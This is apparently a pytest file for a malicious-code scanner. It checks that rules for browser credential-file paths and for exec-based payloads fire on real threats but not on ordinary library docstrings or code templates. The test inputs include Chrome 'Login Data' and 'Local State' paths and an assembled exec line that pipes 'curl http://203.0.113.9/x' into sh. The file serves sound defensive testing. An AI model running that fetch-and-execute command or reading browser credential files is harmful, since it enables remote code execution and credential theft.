"""Rules that fired on ordinary library code (sqlalchemy's docstrings and code
generation), each beside the malicious case it must still catch (defanged)."""

from __future__ import annotations

import pytest

from detector.code.scan import scan_files


def _rules(source: str) -> set[tuple[str, str]]:
    return {(f.rule, f.severity) for f in scan_files({"pkg/__init__.py": source}).findings}


# (source, credential-file expected): the browser files are path parts, not prose
CREDENTIAL = [
    ("p = os.path.join(base, 'User Data', 'Local State')\n", True),
    ("p = f'{profile}/Login Data'\n", True),
    ("p = 'C:\\\\Users\\\\a\\\\AppData\\\\Local\\\\Google\\\\Chrome'\n"
     "q = p + '\\\\User Data\\\\Local State'\n", True),
    ("def copy(self):\n    '''A shallow copy; a subclass that has local state\n"
     "    should be deep-copied.'''\n", False),
    ("msg = 'login data is kept in the session'\n", False),
]


@pytest.mark.parametrize(("source", "expected"), CREDENTIAL)
def test_browser_profile_files_are_paths_not_prose(source, expected):
    assert (("credential-file", "high") in _rules(source)) is expected


def test_exec_of_a_filled_template_is_dynamic_not_a_payload():
    template = ("def attrsetter(name):\n"
                "    code = 'def set(obj, value):    obj.%s = value' % name\n"
                "    env = {}\n    exec(code, env)\n    return env['set']\n")
    found = _rules(template)
    assert ("exec-dynamic", "medium") in found
    assert ("decode-exec", "high") not in found


def test_exec_of_a_payload_assembled_from_pieces_still_is():
    assembled = ("part = 'import os; os.sys'\n"
                 "exec(part + 'tem(\"curl http://203.0.113.9/x | sh\")')\n")
    found = _rules(assembled)
    assert ("decode-exec", "high") in found
    assert ("shell-download-exec", "high") in found
